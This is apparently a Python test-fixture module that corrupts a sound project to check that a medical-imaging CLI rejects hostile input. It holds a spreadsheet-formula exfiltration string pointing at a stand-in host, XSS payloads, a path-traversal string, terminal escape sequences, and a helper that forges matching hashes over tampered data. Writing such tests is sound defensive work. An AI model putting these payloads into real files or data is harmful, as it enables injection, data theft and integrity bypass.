# ruff: noqa: E501
"""A sound project to be spoilt, the commands that are then given to it, and ways to spoil a file."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from contextlib import chdir
from dataclasses import dataclass
from pathlib import Path

FORMULA = '=HYPERLINK("http://x/?"&A1)'
SCRIPT = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
ESCAPE = "../../../../../../tmp/escaped-from-gcsam-med"
TERMINAL = "\x1b[2J\x1b]0;title\x07[bold red]markup[/]"


@dataclass(frozen=True)
class Project:
    """A sound project to be spoilt."""

    root: Path

    @property
    def data(self) -> Path:
        """Data root, with ``prepared/toy``."""
        return self.root / "data"

    @property
    def toy(self) -> Path:
        """The prepared set."""
        return self.data / "prepared" / "toy"

    @property
    def run(self) -> Path:
        """A finished run."""
        return self.root / "runs" / "one"

    @property
    def other(self) -> Path:
        """A second finished run."""
        return self.root / "runs" / "two"

    @property
    def source(self) -> Path:
        """A folder of class folders with images."""
        return self.root / "source"

    @property
    def protocol(self) -> Path:
        """A frozen protocol of the classifiers ``r0`` and ``r1``, trained on ``home``, tested on ``far``."""
        return self.root / "protocol.json"

    def edit(self, path: Path, change: Callable[[str], str]) -> None:
        """Change a text file."""
        path.write_text(change(path.read_text()))

    def set(self, path: Path, **values: object) -> None:
        """Change fields of a JSON file."""
        content = json.loads(path.read_text())
        content.pop("seal", None)
        path.write_text(json.dumps({**content, **values}))

    def column(self, name: str, value: object) -> None:
        """Set a cell of the manifest's rows of the test split, and of the first row."""
        import pandas as pd

        path = self.toy / "manifest.csv"
        table = pd.read_csv(path, dtype=str, keep_default_na=False)
        rows = (table["split"] == "test") | (table.index == 0)
        table[name] = table[name].where(~rows, str(value)) if name in table else str(value)
        table.to_csv(path, index=False)

    def reseal(self, name: str = "toy") -> None:
        """Let hashes, also those in the runs, fit what was changed: a hostile source would have made it so."""
        from gcsam_med.datasets.prepared import DatasetInfo, with_fingerprint

        folder = self.data / "prepared" / name
        path = folder / "dataset.json"
        former = json.loads(path.read_text())["content_sha256"]
        info = with_fingerprint(folder, DatasetInfo.model_validate_json(path.read_bytes()))
        path.write_text(info.model_dump_json(by_alias=True))
        for path in (self.root / "runs").rglob("*.json"):
            if former in path.read_text():
                self.edit(path, lambda text: text.replace(former, info.content_sha256))
                self.set(path)


def seal(project: Project) -> None:
    """Add two sets, two classifiers of the first, and a protocol that tests them on the second."""
    from gcsam_med.compare.protocol import freeze
    from tests.builders import make_prepared, make_run, with_fingerprints

    home, far = (
        with_fingerprints(make_prepared(project.data, n=n, size=32, name=name, seed=n), n)
        for name, n in (("home", 30), ("far", 24))
    )
    for seed in (0, 1):
        given = {"model": "tiny-classifier", "name": f"r{seed}", "classes": ("benign", "malignant")}
        make_run(project.root / "runs", home, "classification", seed=seed, **given)
    with chdir(project.root):  # so that its paths hold in a copy
        runs = [Path("runs/r0"), Path("runs/r1")]
        freeze(runs, [far.info.name], Path("protocol.json"), outcome="auc", margin=0.05)


Arguments = list[str]
Commands = dict[str, Callable[[Project], Arguments]]

COMMANDS: Commands = {
    "prepare": lambda p: ["prepare", "--dataset", "folder", "--source", str(p.source), "--name", "made",
                          "--size", "32", "--workers", "0", "--data-root", str(p.data)],
    "train": lambda p: ["train", "--dataset", "toy", "--data-root", str(p.data), "--model", "tiny", "--device",
                        "cpu", "--epochs", "1", "--output", str(p.root / "new"), "--task", "segmentation"],
    "resume": lambda p: ["train", "--resume", str(p.run), "--extend", "--epochs", "3"],
    "evaluate": lambda p: ["evaluate", str(p.run), "--device", "cpu", "--resamples", "100"],
    "predict": lambda p: ["predict", str(p.run), str(p.source), "--output", str(p.root / "out"), "--device", "cpu"],
    "compare": lambda p: ["compare", str(p.run), str(p.other), "--output", str(p.root / "compared")],
    "sharpness": lambda p: ["sharpness", str(p.run), "--device", "cpu", "--cases", "4", "--trace-samples", "2",
                            "--line-points", "0", "--surface-points", "0", "--eigenvalues", "1"],
    "export": lambda p: ["export", str(p.run), "--format", "safetensors", "--output", str(p.root / "exported")],
    "doctor": lambda p: ["doctor", "--data-root", str(p.data)],
    "preview": lambda p: ["preview", "toy", "--data-root", str(p.data)],
    "audit": lambda p: ["audit", "toy", "--data-root", str(p.data)],
    "show": lambda p: ["protocol", "show", str(p.protocol)],
    "seal": lambda p: ["protocol", "run", str(p.protocol), "--device", "cpu"],
    "freeze": lambda p: ["protocol", "freeze", *(str(p.root / "runs" / name) for name in ("r0", "r1")), "--external",
                         "far", "--out", str(p.root / "new.json"), "--data-root", str(p.data)],
    "merge": lambda p: ["prepare", "--merge", "home,far", "--data-root", str(p.data)],
    "reader": lambda p: ["evaluate", str(p.root / "runs" / "r0"), "--dataset", "far", "--data-root", str(p.data),
                         "--device", "cpu", "--resamples", "100"],
    "plan": lambda p: ["plan", str(p.run), str(p.other), "--margin", "0.1", "--resamples", "100"],
    "study": lambda p: ["compare", "--dataset", "toy", "--task", "segmentation", "--models", "tiny", "--optimizers",
                        "adam", "--data-root", str(p.data), "--output", str(p.root / "study"), "--dry-run"],
    "parts": lambda p: ["compare", "--data-root", str(p.data), "--output", str(p.root / "study")],
    "guided": lambda p: ["run", "--source", str(p.source), "--data-root", str(p.data), "--output",
                         str(p.root / "guided"), "--model", "tiny-classifier", "--size", "32", "--dry-run"],
}  # fmt: skip


@dataclass(frozen=True)
class Case:
    """One hostile input.

    Parameters
    ----------
    spoil : callable
        Puts it into a sound project; may give arguments to add.
    codes : dict
        Exit codes that each command may give.
    """

    spoil: Callable[[Project], list[str] | None]
    codes: dict[str, tuple[int, ...]]


def codes_for(commands: str, *codes: int) -> dict[str, tuple[int, ...]]:
    return dict.fromkeys(commands.split(), codes)


def config_of(text: str | bytes) -> Callable[[Project], list[str]]:
    def spoil(p: Project) -> list[str]:
        path = p.root / "evil.yaml"
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return ["--config", str(path)]

    return spoil


def option(name: str, value: str) -> Callable[[Project], list[str]]:
    return lambda p: [name, value]


def pipe_at(path: Callable[[Project], Path]) -> Callable[[Project], None]:
    def spoil(p: Project) -> None:
        path(p).unlink(missing_ok=True)
        os.mkfifo(path(p))

    return spoil


def text_at(path: Callable[[Project], Path], text: str | bytes) -> Callable[[Project], None]:
    def spoil(p: Project) -> None:
        path(p).write_bytes(text if isinstance(text, bytes) else text.encode())

    return spoil


def json_at(path: Callable[[Project], Path], **values: object) -> Callable[[Project], None]:
    return lambda p: p.set(path(p), **values)


def column_of(name: str, value: object) -> Callable[[Project], None]:
    return lambda p: p.column(name, value)


def sealed(spoil: Callable[[Project], None]) -> Callable[[Project], None]:
    """The same with hashes that fit."""

    def spoil_and_seal(p: Project) -> None:
        spoil(p)
        p.reseal()

    return spoil_and_seal


def sparse_at(path: Callable[[Project], Path]) -> Callable[[Project], None]:
    def spoil(p: Project) -> None:
        with path(p).open("wb") as file:
            file.truncate(2**42)

    return spoil


def link_at(path: Callable[[Project], Path], target: str) -> Callable[[Project], None]:
    def spoil(p: Project) -> None:
        path(p).unlink(missing_ok=True)
        path(p).symlink_to(target)

    return spoil
